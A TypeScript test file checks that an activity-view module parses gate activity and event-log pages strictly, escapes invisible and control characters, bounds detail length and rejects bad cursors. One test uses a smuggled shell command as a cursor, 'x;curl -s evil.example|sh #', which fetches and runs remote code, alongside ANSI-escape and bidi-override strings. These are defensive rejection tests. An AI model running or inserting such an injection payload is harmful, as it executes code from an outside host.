import { describe, expect, it } from 'vitest';
import { placeBehind, readActivity, readEventPage } from '../../../src/activity-view/answer.ts';
import { NotAsExpected } from '../../../src/activity-view/exact.ts';
import { busyAnswer, eventsAnswer, quietAnswer } from '../../rig/activity-answer.ts';

const NOW = Date.UTC(2026, 10, 30, 12, 30);

describe('the answer of a gate', () => {
  it('is read with its times as numbers', () => {
    const { hours, visitors, status } = readActivity(busyAnswer(NOW, 1_000_000));
    expect(hours.length).toBeGreaterThan(5000);
    expect(hours[0]?.hour).toBe(Date.UTC(2026, 10, 30, 12) - 719 * 3_600_000);
    expect(visitors).toHaveLength(2000);
    expect(status.kernel.junk).toBe(1_402_117);
  });

  it('may have fields that a newer gate has added', () => {
    expect(readActivity({ ...quietAnswer(NOW), weather: 'fine' })).not.toHaveProperty('weather');
  });

  it('is refused as a whole when a part is another', () => {
    const good = quietAnswer(NOW);
    for (const change of [
      { memory: -1 },
      { hours: [{}] },
      { status: { ...good.status, capture: 'maybe' } },
      { visitors: null },
    ])
      expect(() => readActivity({ ...good, ...change })).toThrow(NotAsExpected);
  });

  it('is shown with nothing invisible', () => {
    const good = busyAnswer(NOW, 1000);
    const [grant] = readActivity({
      ...good,
      grants: [{ client: 'a\u202e', address: '\u001b[2J', port: 'tcp/22', seconds: 1 }],
    }).grants;
    expect(grant).toEqual({ client: 'a\\u202e', address: '\\u001b[2J', port: 'tcp/22', seconds: 1 });
  });
});

describe('a page of the log', () => {
  it('has a row for each event, with all it says', () => {
    const { rows, next } = readEventPage(eventsAnswer(NOW, 3, 3));
    expect(next).toBe('s=0123456789abcdef,i=6');
    expect(rows[0]).toEqual({
      time: NOW - 3 * 2600,
      event: 'refused',
      client: '',
      address: '203.0.113.3',
      details: 'source-mismatch',
    });
    expect(rows[1]?.details).toBe('tcp/22, seconds 30');
    expect(rows[2]).toMatchObject({ event: 'firewall-restored', details: 'the table was gone' });
  });

  it('keeps the events as they were written', () => {
    const answer = eventsAnswer(NOW, 0, 2);
    expect(readEventPage(answer).raw).toEqual(answer.events);
  });

  it('writes out what is invisible, in fields that nobody knows yet too', () => {
    const time = new Date(NOW).toISOString();
    const { rows } = readEventPage({ events: [{ time, event: 'x', odd: { a: '\u0007' }, 'b\u200b': 1 }], next: null });
    expect(rows[0]?.details).toBe('odd {"a":"\\u0007"}, b\\u200b 1');
  });

  it('has details of bounded length', () => {
    const time = new Date(NOW).toISOString();
    const { rows } = readEventPage({ events: [{ time, event: 'x', detail: 'y'.repeat(10_000) }], next: null });
    expect(rows[0]?.details).toHaveLength(4000);
  });

  it('does not lead to itself', () => {
    const page = readEventPage({ events: [], next: 's=1' });
    expect(placeBehind(page, null)).toBe('s=1');
    expect(() => placeBehind(page, 's=1')).toThrow(NotAsExpected);
  });

  it('is refused without a time, or without a cursor or null', () => {
    for (const answer of [
      { events: [{ event: 'x' }], next: null },
      { events: [] },
      { events: {}, next: null },
      // A command to copy holds the cursor.
      ...['x;curl -s evil.example|sh #', "a'b", '-x', ''].map((next) => ({ ...eventsAnswer(NOW, 0, 1), next })),
      undefined,
    ])
      expect(() => readEventPage(answer)).toThrow(NotAsExpected);
  });
});
